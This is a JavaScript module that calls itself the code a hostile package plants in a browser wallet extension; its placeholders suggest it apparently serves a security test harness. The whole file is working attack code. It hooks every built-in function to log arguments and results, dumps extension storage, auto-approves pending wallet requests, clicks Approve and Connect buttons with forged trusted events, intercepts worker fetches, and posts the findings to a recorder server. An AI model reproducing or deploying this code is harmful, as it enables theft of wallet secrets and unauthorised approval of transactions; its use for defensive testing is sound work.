// @ts-nocheck: it stands for a stranger's code.
/**
 * The code that a hostile package adds to its own. During evaluation, it wraps every built-in function that it can
 * replace, tries the browser's API, and intercepts requests of the worker. It sends everything that it finds to a
 * server.
 */
const PLANTED = '__PLANTED__'.split(' ')
const RECORDER = '__RECORDER__'
const { apply, construct, ownKeys, getOwnPropertyDescriptor, defineProperty, getPrototypeOf } = Reflect
const { stringify } = JSON
const { fetch: send, setTimeout: later, Proxy: Wrapper } = globalThis
const isView = ArrayBuffer.isView

/** Limits on one record, and on the records per function, so that the wallet stays fast enough to be used. */
const MAX_TEXT = 4_096
const MAX_BYTES = 256
const MAX_RECORDS = 500
/** Milliseconds between two reports. */
const PAUSE = 250
/**
 * Maximum number of times that the buttons of a window are pressed. After a reload of the window, they are not pressed
 * again.
 */
const PRESSES = 3
const PRESSED = 'planted'

const tryTo = act => {
  try {
    return act()
  } catch {
    return undefined
  }
}

/** Converts a value to text, up to a depth. Bytes become hex. */
const describe = (value, depth) => {
  if (typeof value === 'string') return value.length > MAX_TEXT ? '' : value
  if (typeof value !== 'object' || value === null) return ''
  if (isView(value)) {
    if (value.byteLength > MAX_BYTES) return ''
    const bytes = new Uint8Array(value.buffer, value.byteOffset, value.byteLength)
    let hex = ''
    for (let at = 0; at < bytes.length; at++) hex += (bytes[at] + 256).toString(16).slice(1)
    return hex
  }
  if (depth === 0) return ''
  let text = ''
  const names = ownKeys(value)
  for (let at = 0; at < names.length && at < 32; at++) {
    const found = getOwnPropertyDescriptor(value, names[at])
    if (found && 'value' in found) text += `${describe(found.value, depth - 1)} `
  }
  return text
}

/** Returns every reachable object with built-in functions, with the path to it. */
const findPlaces = () => {
  const seen = new Set()
  const places = []
  const visit = (owner, path) => {
    if (seen.has(owner)) return
    seen.add(owner)
    for (const name of ownKeys(owner)) {
      const found = getOwnPropertyDescriptor(owner, name)
      if (!found || name === 'constructor' || name === 'chrome' || name === 'browser') continue
      const here = `${path}.${String(name)}`
      if (typeof found.value === 'function' || found.get) places.push([owner, name, found, here])
      for (const next of [found.value, found.get, found.set])
        if (next && (typeof next === 'function' || (typeof next === 'object' && next !== globalThis))) visit(next, here)
    }
    const parent = getPrototypeOf(owner)
    if (parent && parent[Symbol.toStringTag] !== 'WindowProperties') visit(parent, `${path}.__proto__`)
  }
  visit(globalThis, 'globalThis')
  const { crypto, navigator } = globalThis
  const hidden = [async () => {}, function* () {}, async function* () {}, [].values(), ''.matchAll(/x/g), Uint8Array]
  if (navigator.credentials) hidden.push(navigator.credentials)
  for (const instance of [crypto, crypto.subtle, navigator, ...hidden]) visit(instance, 'instance')
  return places
}

/** The places in this context, for all packages. */
let places

const startPlant = name => {
  const heard = []
  const counts = { tried: 0, hooked: 0 }
  let isInside = false
  let presses = globalThis.sessionStorage?.getItem(PRESSED) ? PRESSES : 0

  const post = news => {
    const context = globalThis.location.pathname
    const body = stringify({ context, package: name, ...news })
    tryTo(() => send(RECORDER, { method: 'POST', body }).catch(() => undefined))
  }
  const record = (path, values) => {
    let text = ''
    for (let at = 0; at < values.length; at++) text += `${tryTo(() => describe(values[at], 2)) ?? ''} `
    if (text.length > 8 + values.length) heard[heard.length] = `${path}\t${text}`
  }
  const wrap = (path, original) => {
    let records = 0
    const hear = (self, given, run) => {
      const result = run()
      if (isInside || records > MAX_RECORDS) return result
      isInside = true
      records++
      record(path, [self, ...given, result])
      isInside = false
      return result
    }
    return new Wrapper(original, {
      apply: (target, self, given) => hear(self, given, () => apply(target, self, given)),
      construct: (target, given, made) => hear(undefined, given, () => construct(target, given, made)),
    })
  }
  const hookEverything = () => {
    places ??= findPlaces()
    for (const [owner, key, found, path] of places) {
      counts.tried++
      const kind = found.value ? 'value' : 'get'
      const hook = { ...found, [kind]: wrap(path, found[kind]) }
      if (tryTo(() => defineProperty(owner, key, hook))) counts.hooked++
    }
  }

  /** Calls the background as a page of the wallet would, and approves all pending requests. */
  const speak = async (way, api) => {
    if (!api) return
    if (api.storage) {
      const { session, local } = api.storage
      post({ reached: [`${way}.storage`] })
      record(`${way}.storage`, [stringify([await session.get(null), await local.get(null)])])
    }
    if (!api.runtime?.connect) return
    post({ reached: [`${way}.runtime`] })
    if (typeof document === 'undefined') return
    const port = api.runtime.connect({ name: 'ui' })
    port.onMessage.addListener(({ state, result }) => {
      const { requests = [], selected } = state ?? result ?? {}
      for (const { id, revision } of requests)
        port.postMessage({ id: 2, method: 'decide', params: { id, revision, approve: true, accounts: [selected] } })
    })
    port.postMessage({ id: 1, method: 'getState', params: null })
  }
  const reach = () => {
    for (const way of ['chrome', 'browser']) speak(way, globalThis[way]).catch(() => undefined)
    if (typeof document === 'undefined') {
      // A worker that handles requests for the wallet's pages could serve other pages instead.
      const intercept = ({ request }) => post({ reached: [`fetch event of ${new URL(request.url).pathname}`] })
      tryTo(() => addEventListener('fetch', intercept))
      tryTo(() => EventTarget.prototype.addEventListener.call(globalThis, 'fetch', intercept))
      tryTo(() => {
        globalThis.onfetch = intercept
      })
      return
    }
    const frame = document.createElement('iframe')
    document.documentElement.append(frame)
    for (const way of ['chrome', 'browser']) speak(`frame.${way}`, frame.contentWindow?.[way]).catch(() => undefined)
    frame.remove()
  }

  /** Presses the approving buttons, with synthetic events and by calling the handlers stored on the button. */
  const press = () => {
    for (const button of document.querySelectorAll('button')) {
      if (!/^(Approve|Connect)$/.test(button.textContent.trim())) continue
      presses++
      sessionStorage.setItem(PRESSED, 'yes')
      button.click()
      for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'])
        button.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, detail: 1 }))
      button.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }))
      const event = {
        isTrusted: true,
        type: 'click',
        detail: 1,
        timeStamp: performance.now() + 60_000,
        target: button,
        currentTarget: button,
        preventDefault() {},
        stopPropagation() {},
      }
      for (const key of ownKeys(button)) {
        const kept = button[key]
        const handlers = typeof kept === 'object' && kept !== null ? Object.values(kept).flat() : [kept]
        for (const handler of handlers) if (typeof handler === 'function') tryTo(() => handler.call(button, event))
      }
    }
  }

  const report = () => {
    isInside = true
    if (typeof document !== 'undefined' && presses < PRESSES) tryTo(press)
    // RegExp.input has the text of the most recent regular expression match in any script.
    record('RegExp.input', [RegExp.input, RegExp.leftContext, RegExp.rightContext])
    if (heard.length > 0) post({ heard: heard.splice(0) })
    isInside = false
    later(report, PAUSE)
  }

  isInside = true
  hookEverything()
  isInside = false
  post(counts)
  reach()
  later(report, PAUSE)
}

const started = new Set()

/** Every module of a package calls this during its evaluation. */
export const plant = name => {
  if (!PLANTED.includes(name) || started.has(name)) return
  started.add(name)
  startPlant(name)
}
